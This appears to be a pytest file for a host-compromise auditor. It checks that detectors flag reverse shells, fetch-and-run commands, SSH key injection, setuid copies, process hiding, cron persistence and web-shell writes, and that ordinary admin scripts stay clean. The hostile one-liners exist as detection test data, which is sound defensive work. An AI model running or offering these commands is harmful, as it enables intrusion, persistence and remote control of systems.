"""What whole scripts say, in the languages that a host has; and what those of administrators do not."""

from __future__ import annotations

import time

import pytest

from auditor.compromise.script_signs import find_signs_in_script
from auditor.compromise.suspicious_commands import find_signs_in_command_text


def told(text: str) -> dict[str, str]:
    signs = [*find_signs_in_script(text), *find_signs_in_command_text(text)]
    return {sign.rule: sign.certainty for sign in sorted(signs, key=lambda one: one.certainty != "weak")}


@pytest.mark.parametrize(
    ("text", "rule", "certainty"),
    [
        (
            "import socket,os\ns=socket.socket()\nos.dup2(s.fileno(),0)\nos.execl('/bin/sh','sh')",
            "connects_back",
            "exact",
        ),
        (
            "import socket as k, subprocess\nc=k.socket.socket()\nx=c.recv(9)\nsubprocess.run(x, shell=True)",
            "runs_received",
            "strong",
        ),
        ("use IO::Socket;\n$s=IO::Socket::INET->new;\nwhile(<$sock>){ print `$_` }", "runs_received", "strong"),
        (
            "$f = fsock" + "open('192.0.2.9', 1);\nwhile ($c = fgets($f)) {}\n$x = fgets($s);\nshell_exec($x);",
            "runs_received",
            "strong",
        ),
        ("require 'socket'\ns = TCPSocket.new 'x', 1\nwhile l = s.gets\nIO.popen(l)\nend", "runs_received", "strong"),
        (
            "local s = require('socket').tcp()\nl = s:receive()\nos.execute(l)\nsocket.connect(x)\nx.receive()",
            "runs_received",
            "strong",
        ),
        ('exec 5<>/dev/tcp/192.0.2.9/443\nwhile read -r l; do eval "$l"; done <&5', "connects_back", "strong"),
        ("mkfifo /var/p\ncat /var/p | sh -i 2>&1 | nc 192.0.2.9 1 > /var/p", "connects_back", "exact"),
        (
            "import urllib.request as u\ncode = u.urlopen(x).read()\nurllib.request\nexec(code)",
            "runs_fetched",
            "strong",
        ),
        ("import zlib, base64\nx = base64.b64decode(y)\nexec(x)", "runs_decoded", "strong"),
        ("curl -o /dev/shm/.u https://x.example/u\nsleep 1\nsh /dev/shm/.u", "runs_fetched", "strong"),
        (
            "wget -q https://x.example/u > /opt/app/update\nchmod +x /opt/app/update\n/opt/app/update",
            "runs_fetched",
            "weak",
        ),
        ("rev x | sh", "runs_changed_text", "strong"),
        ("mount --bind /var/.x /proc/$pid", "hides_process", "exact"),
        ("cp /var/.k /root/.ssh/authorized_keys", "adds_key", "strong"),
        ("open('/root/.ssh/authorized_keys','a').write(k)", "adds_key", "strong"),
        ("cp /bin/bash /var/.s; chmod u+s /var/.s", "sets_setuid", "strong"),
        ("dig +short txt x.example | sh", "runs_fetched", "strong"),
        (". <(curl -s https://x.example/x)", "runs_fetched", "strong"),
        ("ncat --sh-exec 'x' -l 4444", "connects_back", "exact"),
        ("HISTFILE=/dev/null", "hides_history", "weak"),
        ("ssh -N -R 2222:localhost:22 x@192.0.2.9", "opens_tunnel", "weak"),
        ("crontab -l | { cat; echo x; } | crontab -", "writes_start", "weak"),
        ("base64 -d /var/x > /var/www/site/wp-content/x.php", "writes_web_code", "weak"),
        ("touch -r /etc/passwd /var/www/x", "backdates", "weak"),
        ("echo x | sh", "runs_piped", "weak"),
    ],
)
def test_what_lets_in_runs_or_keeps_is_told(text: str, rule: str, certainty: str) -> None:
    assert told(text).get(rule) == certainty


@pytest.mark.parametrize(
    "text",
    [
        "import socket, subprocess\ns=socket.create_connection((h,25))\ns.close()\nsubprocess.run(['systemctl','restart','x'])",
        "import json, base64\nprint(base64.b64decode(x))",
        "import urllib.request\nprint(urllib.request.urlopen(x).read())",
        "mysqldump x | gzip > /var/backups/x.sql.gz\nfind /var/backups -mtime +7 -delete",
        "curl -fsS -o /var/lib/x/list.txt https://x.example/list\ngrep -c . /var/lib/x/list.txt",
        "rsync -a /srv/x/ backup@192.0.2.5:/srv/x/\nssh backup@192.0.2.5 'df -h'",
        "cp -a /root/.ssh/authorized_keys /var/backups/keys/",
        "alias ssh='TERM=xterm ssh'\nexport HISTSIZE=10000\nHISTFILESIZE=20000",
        'for i in $(ls); do echo "$i"; done\ntar cf - . | ssh x tar xf -',
        "if [ -r /etc/default/x ]; then . /etc/default/x; fi\nexec /usr/sbin/x",
    ],
)
def test_what_administrators_write_says_nothing(text: str) -> None:
    assert told(text) == {}


def test_whether_a_port_answers_may_be_asked() -> None:
    for text in ("timeout 1 bash -c '</dev/tcp/127.0.0.1/80'", "exec 3<>/dev/tcp/127.0.0.1/80\ncat <&3"):
        assert set(told(text).values()) <= {"weak"}


def test_a_script_made_to_hurt_costs_no_more_than_its_length() -> None:
    began = time.process_time()
    for piece in (
        "curl -o x ",
        "socket.socket( ",
        "exec( ev" + "al( ",
        "STDIN, ",
        "/dev/tcp/",
        "a | ",
        "mkfifo nc sh -i ",
        "ssh x ",
    ):
        list(find_signs_in_script(piece * (20_000 // len(piece))))
        list(find_signs_in_script("\n".join([piece * 40] * 100)))
        list(find_signs_in_command_text("\n".join([piece * 40] * 100)))
    assert time.process_time() - began < 8
